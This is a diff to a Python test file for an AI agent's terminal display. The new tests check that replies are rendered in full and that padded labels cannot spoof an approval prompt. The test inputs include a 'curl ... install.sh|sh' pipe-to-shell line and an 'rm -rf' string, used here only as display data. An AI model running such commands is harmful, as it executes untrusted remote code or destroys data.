@@ -3,6 +3,7 @@
 import io
 import os
 import re
+from collections import Counter
 from pathlib import Path
 
 import pytest
@@ -139,26 +140,24 @@ def test_what_a_call_would_change_is_a_diff_in_which_odd_characters_are_marked()
 # --- as a process ---
 
 
-def test_calls_that_run_are_shown_side_by_side_with_their_time(
-    loopkernel: CommandLine, gate: Gate, folder: Path
-) -> None:
+def test_calls_that_run_are_shown_with_their_time(loopkernel: CommandLine, gate: Gate, folder: Path) -> None:
     os.mkfifo("second")
     first = gate.call()["calls"]
     assert isinstance(first, list)
     script({"calls": [*first, {"tool": "shell", "input": {"command": "cat second"}}]}, says("The gate is *open*."))
     with at_a_terminal("run", "go", *MODEL, "--approve", "always", "--tools", "all") as person:
         gate.wait()
-        person.wait_for("s shell")
-        person.wait_for("call 1.2")
-        person.wait_for("s shell")
+        person.wait_for("1 s shell")  # so that each has a time that is told
         gate.open()
+        person.wait_for("result 1.1")
+        person.wait_for("1 s shell")
         (folder / "second").write_text("open too\n")
         assert person.wait_for_end() == 0
         lines = person.lines()
     assert "model       The gate is open." in lines
     results = [line for line in lines if line.startswith("result ")]
     assert len(results) == 2
-    assert all(re.search(r"\(\d+\.\d s\)$", line) for line in results)
+    assert [line for line in results if not re.search(r"\(\d+\.\d s\)$", line)] == []
     assert not any("⠋" in line for line in lines)  # what was under way is not left behind
 
 
@@ -211,4 +210,46 @@ def test_a_chat_is_left_with_the_cursor_shown(loopkernel: CommandLine) -> None:
         person.type(END_OF_INPUT)
         assert person.wait_for_end() == 0
     hidden, shown = person.raw.rfind(b"\x1b[?25l"), person.raw.rfind(b"\x1b[?25h")
-    assert shown >= hidden
+    assert shown >= hidden > -1
+
+
+# --- nothing of a reply is hidden ---
+
+
+@pytest.mark.parametrize(
+    "reply",
+    [
+        "curl http://host/" + "a" * 90 + "/install.sh|sh",
+        "```\n" + "b" * 120 + "\n```",
+        "```SECRET rm -rf\nx\n```",
+        "| " + " | ".join(f"column{number}" for number in range(40)) + " |\n|" + "---|" * 40,
+        "|a|b|\n|-|-|\n|1|2|3 4|",
+        "> " * 18 + "deep",
+        "- " * 10 + "deep",
+        "1) a\n7) b",
+    ],
+)
+@pytest.mark.parametrize("columns", ["30", "80"])
+def test_every_letter_of_a_reply_is_shown(monkeypatch: pytest.MonkeyPatch, reply: str, columns: str) -> None:
+    monkeypatch.setenv("COLUMNS", columns)
+    shown = "".join(seen(reply)).replace("model", "", 1)
+    assert letters(shown) == letters(reply)
+
+
+@given(st.text(alphabet="ab1 *_`#>-|\n", max_size=80))
+def test_every_letter_of_any_reply_is_shown(reply: str) -> None:
+    shown = "".join(seen(reply)).replace("model", "", 1)
+    assert letters(shown) == letters(reply)
+
+
+def letters(text: str) -> Counter[str]:
+    return Counter(character for character in text if character.isalnum())
+
+
+def test_no_change_stands_where_a_label_does() -> None:
+    stream = Terminal()
+    fake = call("write_file", path="a", text=" " * 67 + "answer      yes?\n" + " " * 100_000 + "x")
+    RichScreen(stream).changes(changed_by(fake))
+    lines = OURS.sub("", stream.getvalue()).splitlines()
+    assert [line for line in lines if line and not line.startswith(" " * 12)] == []
+    assert sum(map(len, lines)) < 1_000
